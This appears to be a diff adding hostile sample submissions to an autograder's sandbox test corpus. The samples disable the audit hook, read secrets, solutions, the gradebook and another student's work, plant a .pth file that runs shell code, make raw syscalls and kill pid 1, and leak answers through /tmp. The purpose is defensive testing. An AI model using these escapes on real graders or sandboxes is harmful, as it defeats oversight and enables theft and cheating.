@@ -1111,6 +1111,147 @@ def blank_release() -> dict:
 # The corpus: file name (its expected outcome) → content, expected score, message.
 # --------------------------------------------------------------------------------------------
 
+# -- round 2: attacks that first switch the audit hook off, or go below it ---------------------------------
+HOOK_OFF = '''import autograder.sandbox.guard as _guard
+
+_guard.inside = lambda path, folder: True
+_guard._FORBIDDEN_EVENTS.clear()
+_guard._MUTATING_EVENTS.clear()
+_guard._LISTING_EVENTS.clear()
+'''
+
+STEALS_WITH_THE_HOOK_OFF = HOOK_OFF + '''
+
+def central_difference(f, x, h=1e-5):
+    """With the audit hook off: read the secret, the answers, a classmate; plant a .pth; leave a file in /tmp."""
+    import os, sys
+    stolen = []
+    for path in ("@@COURSE@@/.autograder_secret", "@@COURSE@@/solutions/secret.txt", "@@COURSE@@/gradebook.db",
+                 "@@COURSE@@/submitted/zz_other_student/01_gradient_descent/01_gradient_descent.ipynb",
+                 "/proc/1/environ", "/proc/1/cmdline", "@@HOME@@/.bashrc"):
+        try:
+            with open(path, "rb") as handle:
+                stolen.append(handle.read().decode(errors="replace"))
+        except OSError:
+            pass
+    for folder in [p for p in sys.path if p.endswith("site-packages")] + ["@@TMP@@", "/tmp", "@@COURSE@@"]:
+        try:
+            with open(os.path.join(folder, "escape-steals_with_the_hook_off__12_of_12-@@TAG@@.pth"), "w") as handle:
+                handle.write("import os; os.system('touch @@TMP@@/escape-steals_with_the_hook_off__12_of_12-pth-ran-@@TAG@@')\\n")
+            stolen.append("planted " + folder)
+        except OSError:
+            pass
+    if stolen:
+        return " | ".join(stolen)
+    return (f(x + h) - f(x - h)) / (2 * h)
+'''
+
+RAW_SYSCALLS_AGAINST_THE_GRADER = HOOK_OFF + '''
+
+def gradient_descent_1d(df, x0, learning_rate, num_steps):
+    """Below Python: pidfd, prlimit, kill, mknod, mount, ptrace by raw system call; answers only if all failed."""
+    import ctypes, os, signal
+    libc = ctypes.CDLL(None, use_errno=True)
+    succeeded = []
+    calls = {"pidfd_open": (434, 1, 0), "prlimit64": (302, 1, 7, 0, 0), "mknodat": (259, -100,
+             b"@@OUT@@", 0o10644, 0), "ptrace": (101, 16, 1, 0, 0), "unshare": (272, 0x10000000),
+             "mount": (165, b"none", b"/", b"tmpfs", 0, 0)}
+    for name, args in calls.items():
+        if libc.syscall(*args) >= 0:
+            succeeded.append(name)
+    for pid in (1, os.getppid(), -1):
+        try:
+            os.kill(pid, signal.SIGKILL)
+            succeeded.append(f"kill {pid}")
+        except OSError:
+            pass
+    if succeeded:
+        return succeeded
+    xs = [float(x0)]
+    for _ in range(num_steps):
+        xs.append(xs[-1] - learning_rate * df(xs[-1]))
+    return xs
+'''
+
+LOADS_NATIVE_CODE_FROM_SCRATCH = HOOK_OFF + '''
+
+def classify_trajectory(trajectory, minimum=0.0, tol=1e-3):
+    """Carries a shared library into its scratch folder and loads it; answers only if that failed."""
+    import ctypes, glob, os, shutil
+    libraries = glob.glob("/usr/lib/*/libm.so.6") + glob.glob("/lib/*/libm.so.6")
+    target = os.path.join(os.getcwd(), "carried.so")
+    try:
+        shutil.copyfile(libraries[0], target)
+        ctypes.CDLL(target)
+        return "loaded native code from scratch"
+    except (OSError, IndexError):
+        pass
+    return _classify(trajectory, minimum, tol)
+'''
+
+PUBLISHES_ANSWERS_IN_HOST_TMP = '''import os
+
+
+def count_combinations(layer_sizes, values_per_weight, include_biases=False):
+    """Answers correctly, and publishes each answer as a file name in the host's /tmp for a classmate."""
+    answer = _count(layer_sizes, values_per_weight, include_biases)
+    for folder in ("/tmp", "/var/tmp", "/dev/shm", "@@TMP@@"):
+        try:
+            name = f"escape-publishes_answers_in_host_tmp__12_of_12-@@TAG@@-{list(layer_sizes)}-{values_per_weight}-{include_biases}-{answer}"
+            open(os.path.join(folder, name), "w").close()
+        except OSError:
+            pass
+    return answer
+'''
+
+READS_ANSWERS_FROM_HOST_TMP = '''import os
+
+
+def count_combinations(layer_sizes, values_per_weight, include_biases=False):
+    """No implementation: looks for a classmate's published answers in /tmp."""
+    prefix = f"escape-publishes_answers_in_host_tmp__12_of_12-@@TAG@@-{list(layer_sizes)}-{values_per_weight}-{include_biases}-"
+    for folder in ("/tmp", "/var/tmp", "/dev/shm", "@@TMP@@"):
+        try:
+            for name in os.listdir(folder):
+                if name.startswith(prefix):
+                    return int(name[len(prefix):])
+        except OSError:
+            pass
+    raise NotImplementedError("count_combinations")
+'''
+
+RETURNS_A_HUGE_INT = '''def count_combinations(layer_sizes, values_per_weight, include_biases=False):
+    """An int far beyond a float, and beyond Python's 4300-digit str limit."""
+    return 10 ** 20000 + 1
+'''
+
+RAISES_A_LONE_SURROGATE = '''def central_difference(f, x, h=1e-5):
+    """An exception whose message holds a lone surrogate and control characters."""
+    raise ValueError("bad \\ud800 value \\x1b[31m red \\x00 end")
+'''
+
+SWALLOWS_EVERY_TIMEOUT = '''import time
+
+
+def _forever():
+    while True:
+        try:
+            time.sleep(60)
+        except BaseException:
+            pass
+'''
+
+
+def _helper(exercise: str, name: str) -> str:
+    """The reference solution of ``exercise`` renamed ``name``, for an attack that answers correctly after it."""
+    return "\n\n" + REFERENCE[exercise].replace(f"def {exercise}(", f"def {name}(", 1)
+
+
+def _forever_stub(exercise: str) -> str:
+    signature = REFERENCE[exercise].splitlines()[0]
+    return f"{signature}\n    _forever()\n"
+
+
 def entries() -> list[dict]:
     """Every corpus entry: name, content (bytes, or None if the test generates it), score, message."""
 
@@ -1228,6 +1369,26 @@ def entries() -> list[dict]:
         ("binary_garbage_png__0_of_12", bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)) * 8,
          0, "not valid notebook JSON"),
         ("blank_release_unchanged__0_of_12", dumps(blank_release()), 0, "not implemented yet"),
+        # -- round 2: below the audit hook, across submissions, hostile values ------------------------------
+        ("steals_with_the_hook_off__12_of_12", nb({"central_difference": STEALS_WITH_THE_HOOK_OFF}), 12,
+         "✓ central_difference"),
+        ("raw_syscalls_against_the_grader__12_of_12", nb({"gradient_descent_1d": RAW_SYSCALLS_AGAINST_THE_GRADER}),
+         12, "✓ gradient_descent_1d"),
+        ("loads_native_code_from_scratch__12_of_12", nb({"classify_trajectory": LOADS_NATIVE_CODE_FROM_SCRATCH
+                                                          + _helper("classify_trajectory", "_classify")}), 12,
+         "✓ classify_trajectory"),
+        ("publishes_answers_in_host_tmp__12_of_12", nb({"count_combinations": PUBLISHES_ANSWERS_IN_HOST_TMP
+                                                        + _helper("count_combinations", "_count")}), 12,
+         "✓ count_combinations"),
+        ("reads_answers_from_host_tmp__11_of_12", nb({"count_combinations": READS_ANSWERS_FROM_HOST_TMP}), 11,
+         "count_combinations"),
+        ("returns_a_huge_int__11_of_12", nb({"count_combinations": RETURNS_A_HUGE_INT}), 11, "count_combinations"),
+        ("raises_a_lone_surrogate__10_of_12", nb({"central_difference": RAISES_A_LONE_SURROGATE}), 10, "ValueError"),
+        ("swallows_every_timeout__0_of_12", nb({name: SWALLOWS_EVERY_TIMEOUT + "\n\n" + _forever_stub(name)
+                                                for name in EXERCISES}), 0, "time"),
+        ("lab_02_notebook_in_the_lab_01_folder__0_of_12",
+         (ROOT / "solutions" / "02_gradient_checking" / "02_gradient_checking.ipynb").read_bytes(), 0,
+         "handed in for lab 01_gradient_descent"),
     ]
     return [{"name": name, "content": content, "score": score, "message": message}
             for name, content, score, message in rows]
